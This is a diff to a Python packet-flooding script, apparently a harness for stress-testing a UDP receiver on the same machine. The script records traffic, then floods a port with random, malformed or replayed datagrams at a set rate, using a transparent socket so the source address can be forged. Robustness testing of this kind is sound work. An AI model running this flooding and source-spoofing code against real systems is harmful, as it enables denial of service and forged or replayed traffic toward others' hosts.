@@ -6,9 +6,12 @@ usage: attacker.py record PORT FILE             keeps what is sent to the port, 
        attacker.py flood KIND JSON              sends for a while; its last line says how much and how fast
 
 KIND: garbage (random bytes), lookalike (random bytes that begin as a sealed packet does), truncated (a recorded packet
-cut short), oversized, replay (recorded packets as they were). JSON: interface, target, mac, port, source, file, rate
-(packets/s; 0: as fast as it goes), seconds. The source may be forged; the MAC is our own."""
-import ctypes
+cut short), oversized, replay (recorded packets as they were). JSON: target, port, source, file, rate (packets/s; 0: as
+fast as it goes), seconds. The source may be forged; the MAC is our own.
+
+Sender and receiver share a machine, so a cheap sender counts: up to 64 datagrams of one size go through the network as
+one (UDP_SEGMENT), and the receiver's kernel cuts them before its socket. What the socket, its filter and the program
+behind it have to do, they do for each."""
 import json
 import os
 import random
@@ -18,10 +21,11 @@ import struct
 import sys
 import time
 
-ETH_P_ALL, ETH_P_IP, UDP = 0x0003, 0x0800, 17
+ETH_P_ALL, UDP = 0x0003, 17
 HEADERS = 14 + 20 + 8
-SOL_PACKET, PACKET_QDISC_BYPASS = 263, 20
-BURST = 64  # packets between two looks at the clock
+IP_TRANSPARENT, UDP_SEGMENT, SO_SNDBUFFORCE = 19, 103, 32
+CATCH_UP = 0.005  # s: a sender that did not run for longer does not send all at once what it has missed
+TRAIN, TRAIN_BYTES = 64, 65_000  # the kernel takes no longer ones
 
 
 def record(port, path):
@@ -42,21 +46,6 @@ def record(port, path):
             out.write(f"{ends} {frame[HEADERS:34 + length].hex()}\n")
 
 
-def checksum(header):
-    total = sum(struct.unpack("!10H", header))
-    total = (total & 0xFFFF) + (total >> 16)
-    return ~((total & 0xFFFF) + (total >> 16)) & 0xFFFF
-
-
-def frame(plan, own_mac, payload):
-    """Ethernet, IPv4 and UDP around it; a UDP checksum of 0 means none."""
-    ends = socket.inet_aton(plan["source"]) + socket.inet_aton(plan["target"])
-    ip = struct.pack("!BBHHHBBH", 0x45, 0, 28 + len(payload), random.randrange(65536), 0, 64, UDP, 0) + ends
-    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
-    udp = struct.pack("!HHHH", plan["port"], plan["port"], 8 + len(payload), 0)
-    return bytes.fromhex(plan["mac"].replace(":", "")) + own_mac + b"\x08\x00" + ip + udp + payload
-
-
 def recorded(plan):
     """What the source was heard to send to the target, in order."""
     rows = [line.split() for line in open(plan["file"])]
@@ -68,55 +57,56 @@ def recorded(plan):
 
 def payloads(kind, plan):
     if kind == "garbage":
-        return [os.urandom(random.randrange(1, 1400)) for _ in range(1000)]
+        return [os.urandom(size) for size in random.sample(range(1, 1400), 60) for _ in range(TRAIN)]
     if kind == "oversized":
         return [os.urandom(1472) for _ in range(200)]
     known = recorded(plan)
     if kind == "lookalike":
-        return [known[0][:2] + os.urandom(random.randrange(40, 300)) for _ in range(1000)]
+        sizes = random.sample(range(40, 300), 30)
+        return [known[0][:2] + os.urandom(size) for size in sizes for _ in range(TRAIN)]
     if kind == "truncated":
         return [one[:random.randrange(0, len(one))] for one in known[:1000]]
     return known
 
 
-class Message(ctypes.Structure):
-    """struct mmsghdr of <sys/socket.h> with an address of our own interface: sendmmsg() takes a whole burst at once."""
-    _fields_ = [("name", ctypes.c_void_p), ("name_length", ctypes.c_uint32), ("parts", ctypes.c_void_p),
-                ("part_count", ctypes.c_size_t), ("control", ctypes.c_void_p), ("control_length", ctypes.c_size_t),
-                ("flags", ctypes.c_int), ("padding", ctypes.c_int), ("sent", ctypes.c_uint)]
-
-
-class Part(ctypes.Structure):
-    _fields_ = [("base", ctypes.c_char_p), ("length", ctypes.c_size_t)]
-
-
-def bursts(frames):
-    """(array, length) for each call; the parts must live as long as the arrays."""
-    parts = [Part(f, len(f)) for f in frames]
+def trains(datagrams):
+    """(bytes, size of each datagram in it): what goes out in one call. The kernel cuts it at the receiver's socket."""
+    by_size = {}
+    for one in datagrams:
+        by_size.setdefault(len(one), []).append(one)
+    by_size.pop(0, None)  # there is nothing to cut
     found = []
-    for at in range(0, len(parts), BURST):
-        some = parts[at:at + BURST]
-        messages = [Message(parts=ctypes.addressof(one), part_count=1) for one in some]
-        found.append(((Message * len(some))(*messages), len(some)))
-    return parts, found
+    for size, some in by_size.items():
+        count = min(TRAIN, TRAIN_BYTES // size)
+        some = some * (1 + count // len(some))  # what was recorded once is repeated until a train is full
+        found += [(b"".join(some[at:at + count]), size) for at in range(0, len(some) - count + 1, count)]
+    return found
+
+
+def sender(plan):
+    """Transparent: its source may be anybody's address."""
+    sending = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    sending.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
+    sending.bind((plan["source"], plan["port"]))
+    sending.setsockopt(socket.SOL_SOCKET, SO_SNDBUFFORCE, 8 << 20)
+    sending.connect((plan["target"], plan["port"]))
+    return sending
 
 
 def flood(kind, plan):
-    libc = ctypes.CDLL(None, use_errno=True)
-    sending = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
-    sending.bind((plan["interface"], 0))
-    sending.setsockopt(SOL_PACKET, PACKET_QDISC_BYPASS, 1)
-    frames = [frame(plan, sending.getsockname()[4], p) for p in payloads(kind, plan)]
-    parts, ready = bursts(frames * (1 + BURST // len(frames)))
-    begin = now = time.monotonic()
+    sending = sender(plan)
+    ready = [([train], [(socket.SOL_UDP, UDP_SEGMENT, struct.pack("=H", size))], len(train) // size)
+             for train, size in trains(payloads(kind, plan))]
+    random.shuffle(ready)
+    begin = now = due = time.monotonic()
     sent = turn = 0
     while now < begin + plan["seconds"]:
-        array, length = ready[turn % len(ready)]
-        sent += max(0, libc.sendmmsg(sending.fileno(), array, length, 0))
-        turn += 1
-        now = time.monotonic()
+        train, options, count = ready[turn % len(ready)]
+        sending.sendmsg(train, options)
+        sent, turn, now = sent + count, turn + 1, time.monotonic()
         if plan["rate"]:
-            time.sleep(max(0.0, begin + sent / plan["rate"] - now))
+            due = max(due + count / plan["rate"], now - CATCH_UP)
+            time.sleep(max(0.0, due - now))
     print(json.dumps({"sent": sent, "per_second": round(sent / (now - begin))}), flush=True)
 
 
